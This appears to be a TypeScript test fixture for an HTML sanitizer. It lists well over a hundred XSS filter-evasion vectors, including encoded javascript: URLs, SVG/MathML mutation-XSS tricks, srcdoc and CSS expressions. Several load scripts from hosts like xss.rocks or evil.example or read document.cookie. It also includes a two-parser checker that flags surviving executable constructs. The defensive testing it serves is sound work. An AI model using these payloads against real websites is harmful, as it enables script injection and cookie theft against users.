// Filter-evasion XSS vectors for the cleaner, and a checker that finds executable constructs in its output.
// Vectors follow the OWASP XSS Filter Evasion Cheat Sheet, html5sec.org and published mutation-XSS
// (mXSS) bypasses of HTML sanitizers: malformed tags, encoded `javascript:`, SVG/MathML tricks,
// `srcdoc`, CSS expressions, parser-differential namespace confusion.
import { parseDocument } from "htmlparser2";
import { parseHTML } from "linkedom";
import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS } from "../../src/content/sanitize.js";

export const XSS_VECTORS: readonly string[] = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
  `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<SCRIPT SRC=//xss.rocks/.j>`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `\\";alert('XSS');//`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `exp/*<A STYLE='no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>`,
  `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
  `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
  `<XSS STYLE="xss:expression(alert('XSS'))">`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT a=">" '' SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  "<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
  `<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  `<a href="jAvAsCrIpT&colon;alert(1)">x</a>`,
  `<a href="&#x6A;avascript:alert(1)">x</a>`,
  `<a href="java\u0000script:alert(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="  javascript:alert(1)">x</a>`,
  `<a href="javascript&#58;alert(1)">x</a>`,
  `<a href="javascript&#x3A;alert(1)">x</a>`,
  `<a href="javas&Tab;cript:alert(1)">x</a>`,
  `<a href="javas&NewLine;cript:alert(1)">x</a>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>`,
  `<div srcdoc="<script>alert(1)</script>">x</div>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><set attributeName="href" to="javascript:alert(1)"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<math><maction actiontype="statusline#http://google.com" xlink:href="javascript:alert(2)">CLICKME</maction></math>`,
  `<math href="javascript:javascript:alert(1)">CLICKME</math>`,
  `<form><button formaction=javascript:alert(1)>X</button></form>`,
  `<form action="javascript:alert(1)"><input type=submit></form>`,
  `<input onfocus=alert(1) autofocus>`,
  `<select onfocus=alert(1) autofocus>`,
  `<textarea onfocus=alert(1) autofocus>`,
  `<keygen onfocus=alert(1) autofocus>`,
  `<video><source onerror="alert(1)">`,
  `<video poster=javascript:alert(1)//></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<body onscroll=alert(1)><br><br><input autofocus>`,
  `<details open ontoggle=alert(1)>`,
  `<marquee onstart=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>`,
  `<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>`,
  `<title><img title="</title><img src onerror=alert(1)>"></title>`,
  `<style><img title="</style><img src onerror=alert(1)>"></style>`,
  `<template><script>alert(1)</script></template>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<object data="javascript:alert(1)">`,
  `<embed src="javascript:alert(1)">`,
  `<isindex action="javascript:alert(1)" type=image>`,
  `<a href="javascript:alert(1)" target="_blank">x</a>`,
  `<img src="x" style="background:url(javascript:alert(1))">`,
  `<p style="x:expression(alert(1))">p</p>`,
  `<div style="-moz-binding:url(//evil.example/xss.xml#x)">d</div>`,
  `<img src="https://ok.example/a.png" onload="alert(1)">`,
  `<img srcset="javascript:alert(1) 1x, https://ok.example/b.png 2x">`,
  `<picture><source srcset="javascript:alert(1)"><img src="https://ok.example/c.png"></picture>`,
  `<scr<script>ipt>alert(1)</script>`,
  `<img src="1" onerror\n=alert(1)>`,
  `<img/src="x"/onerror=alert(1)>`,
  `<img src=x onerror=alert(1)//`,
  `<div><a href="javascript:alert(1)"`,
  `<!--><script>alert(1)</script>-->`,
  `<!-- --!><script>alert(1)</script> -->`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<?xml-stylesheet href="javascript:alert(1)"?>`,
  `<a href="https://ok.example/" onclick="alert(1)">x</a>`,
  `<a href="j&#97;vascript:alert(1)">x</a>`,
  `<a href=" &#x0B;javascript:alert(1)">x</a>`,
  `<a xlink:href="javascript:alert(1)">x</a>`,
  `<video><track src="javascript:alert(1)"></video>`,
  `<blockquote cite="javascript:alert(1)">q</blockquote>`,
  `<img src="data:image/png;base64,iVBORw0KGgo=" onerror=alert(1)>`,
  `<a href="data:image/png;base64,iVBOR">x</a>`,
  `<base href="https://evil.example/">`,
  `<meta charset="x-imap4-modified-utf7">`,
  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  `<div id="x" name="cookie">clobber</div>`,
  `<img name="getElementById" src="https://ok.example/d.png">`,
  `<a href="&#1;javascript:alert(1)">x</a>`,
  `<IMG SRC="javascript:alert('XSS')"`,
  `<svg><style>{font-family:'<iframe/onload=confirm(1)>'</style></svg>`,
  `<a href="javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>">x</a>`,
  `<img src="x` + "`" + ` onerror=alert(1)">`,
  `<a href="#" onclick="alert(1)">hash</a>`,
  `<p><svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg></p>`,
  `<table><caption><svg><foreignobject><p><img src=x onerror=alert(1)></p></foreignobject></svg></caption></table>`,
  `<a href="https://ok.example/x?utm_source=feed&id=2">tracked</a>`,
  `<object><param name="movie" value="javascript:alert(1)"><embed src="javascript:alert(1)"></object>`,
  `<applet code="x.class"><param name=x value=javascript:alert(1)></applet>`,
  `<frame src="javascript:alert(1)">`,
  `<portal src="javascript:alert(1)"></portal>`,
  `<link rel="import" href="https://evil.example/x.html">`,
  `<div data-bind="html: alert(1)" data-onclick="alert(1)">knockout</div>`,
  `<a href="ja&#x200B;vascript:alert(1)">zwsp</a>`,
  `<img src="  data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>`,
];

const ALLOWED_TAG_SET = new Set(ALLOWED_TAGS);
const LINK_SCHEMES = new Set(["http:", "https:", "mailto:", "ftp:", "tel:", "magnet:"]);
const RASTER_DATA = /^data:image\/(png|jpe?g|gif|webp|avif|bmp)[;,]/i;
const URL_ATTRIBUTES = new Set(["href", "src", "cite", "poster"]);

function allowedAttributesOf(tag: string): Set<string> {
  return new Set([...(ALLOWED_ATTRIBUTES["*"] ?? []), ...(ALLOWED_ATTRIBUTES[tag] ?? [])]);
}

function checkUrl(tag: string, name: string, value: string, problems: string[]): void {
  let url: URL;
  try {
    url = new URL(value.trim());
  } catch {
    problems.push(`<${tag} ${name}="${value}">: not an absolute URL`);
    return;
  }
  const isImageData = tag === "img" && name === "src" && RASTER_DATA.test(value.trim());
  if (!LINK_SCHEMES.has(url.protocol) && !isImageData) problems.push(`<${tag} ${name}="${value}">: scheme ${url.protocol}`);
  if (name !== "href" && name !== "cite" && url.protocol !== "http:" && url.protocol !== "https:" && !isImageData) {
    problems.push(`<${tag} ${name}="${value}">: resource scheme ${url.protocol}`);
  }
}

function checkElement(tag: string, attributes: Record<string, string>, problems: string[]): void {
  if (!ALLOWED_TAG_SET.has(tag)) problems.push(`element <${tag}> is not allowed`);
  const allowed = allowedAttributesOf(tag);
  for (const [name, value] of Object.entries(attributes)) {
    const lower = name.toLowerCase();
    if (lower.startsWith("on")) problems.push(`<${tag}> has event handler ${name}`);
    if (!allowed.has(lower)) problems.push(`<${tag}> has attribute ${name}`);
    if (URL_ATTRIBUTES.has(lower)) checkUrl(tag, lower, value, problems);
    if (lower === "srcset") {
      for (const part of value.split(/,\s+/)) checkUrl(tag, "srcset", part.trim().split(/\s+/)[0] ?? "", problems);
    }
  }
}

/**
 * Every executable or disallowed construct in `html`, found by parsing it twice: with htmlparser2
 * (what sanitize-html itself reads) and with linkedom (a second tree builder), so a parser
 * difference cannot hide a construct. Empty when the HTML is safe.
 */
export function findExecutableConstructs(html: string): string[] {
  const problems: string[] = [];
  const walk = (node: { type?: string; name?: string; attribs?: Record<string, string>; children?: unknown[] }): void => {
    if ((node.type === "tag" || node.type === "script" || node.type === "style") && node.name !== undefined) {
      checkElement(node.name.toLowerCase(), node.attribs ?? {}, problems);
    }
    if (node.type === "directive" || node.type === "cdata") problems.push(`${node.type} node survived`);
    for (const child of (node.children ?? []) as Array<typeof node>) walk(child);
  };
  walk(parseDocument(html) as unknown as Parameters<typeof walk>[0]);
  const { document } = parseHTML("<!DOCTYPE html><html><head></head><body></body></html>");
  const container = document.createElement("div");
  container.innerHTML = html;
  container.querySelectorAll("*").forEach((element) => {
    const attributes: Record<string, string> = {};
    for (const attribute of Array.from(element.attributes)) attributes[attribute.name] = attribute.value;
    checkElement(element.tagName.toLowerCase(), attributes, problems);
  });
  return [...new Set(problems)];
}
